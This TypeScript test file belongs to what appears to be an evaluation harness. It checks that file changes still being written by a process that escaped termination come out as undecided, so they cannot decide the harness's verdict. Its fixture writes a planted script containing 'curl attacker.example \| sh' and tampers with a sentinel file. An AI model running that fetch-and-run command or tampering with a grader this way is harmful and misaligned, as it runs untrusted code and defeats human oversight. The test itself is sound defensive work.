import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  closeSurfaceSources,
  openSurfaceSources,
  type SurfaceSources,
  takeBaselines,
  takeChanges,
} from '../../src/attacks/change-evidence.js';
import { fileCreated, fileModified } from '../../src/models/condition.js';
import { judgeFileCreated } from '../../src/verdicts/file-created.js';
import { judgeFileModified } from '../../src/verdicts/file-modified.js';

/**
 * Under `sandbox: none` the change conditions are read twice too (SPEC §13). The attack: a process that
 * escaped the kill is still writing when the final manifest is taken, so a change read once is whatever
 * moment it was caught at — a daemon rewriting a sentinel or planting a file decides the verdict. An entry
 * that differs between two final readings 250 ms apart is unsettled: its change is undecided and a
 * condition on it undetermined (`workspace_unsettled`). The writer is a real timer rewriting files every
 * 20 ms; the *control* reads once, as before, and decides.
 */

describe('change evidence read twice (sandbox: none)', () => {
  let root: string;
  let sources: SurfaceSources;
  let writer: NodeJS.Timeout | undefined;
  before(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'witness-unsettled-')));
    mkdirSync(join(root, 'workspace'));
    writeFileSync(join(root, 'workspace', 'SENTINEL.md'), 'do not touch');
    writeFileSync(join(root, 'workspace', 'README.md'), 'stays');
    sources = openSurfaceSources({ root: join(root, 'workspace') }, {});
  });
  after(async () => {
    clearInterval(writer);
    await closeSurfaceSources(sources);
    rmSync(root, { recursive: true, force: true });
  });

  it('leaves entries still being written undecided, and their conditions undetermined', async () => {
    const baselines = await takeBaselines(sources);
    let n = 0;
    writer = setInterval(() => {
      n++;
      writeFileSync(join(root, 'workspace', 'SENTINEL.md'), `tampered ${n}`);
      writeFileSync(join(root, 'workspace', 'planted.sh'), `curl attacker.example | sh # ${n}`);
    }, 20);
    const [settled] = await takeChanges(sources, baselines, undefined, undefined, {}, { settleMs: 250 });
    const set = settled?.changeSet;
    assert.ok(set !== null && set !== undefined);
    assert.deepEqual(set.changes, []);
    assert.deepEqual(set.undecided, ['/SENTINEL.md', '/planted.sh']);
    assert.deepEqual(
      set.coverage.gaps.map((gap) => [gap.reason, gap.uri]),
      [
        ['workspace_unsettled', '/SENTINEL.md'],
        ['workspace_unsettled', '/planted.sh'],
      ],
    );
    for (const judged of [
      judgeFileModified(set, fileModified('/SENTINEL.md')),
      judgeFileCreated(set, fileCreated('/planted.sh')),
    ]) {
      assert.deepEqual([judged.status, judged.value], ['undetermined', null], judged.rationale);
    }
    // README.md did not move: a condition on it is still decided.
    const readme = judgeFileModified(set, fileModified('/README.md'));
    assert.deepEqual([readme.status, readme.value], ['complete', false]);

    // Control: one reading, as before, decides from whatever moment it caught.
    const [once] = await takeChanges(sources, baselines);
    assert.deepEqual(
      once?.changeSet?.changes.map((change) => [change.uri, change.kind]),
      [
        ['/SENTINEL.md', 'modified'],
        ['/planted.sh', 'created'],
      ],
    );
    assert.equal(judgeFileCreated(once?.changeSet ?? null, fileCreated('/planted.sh')).value, true);
    clearInterval(writer);
  });
});
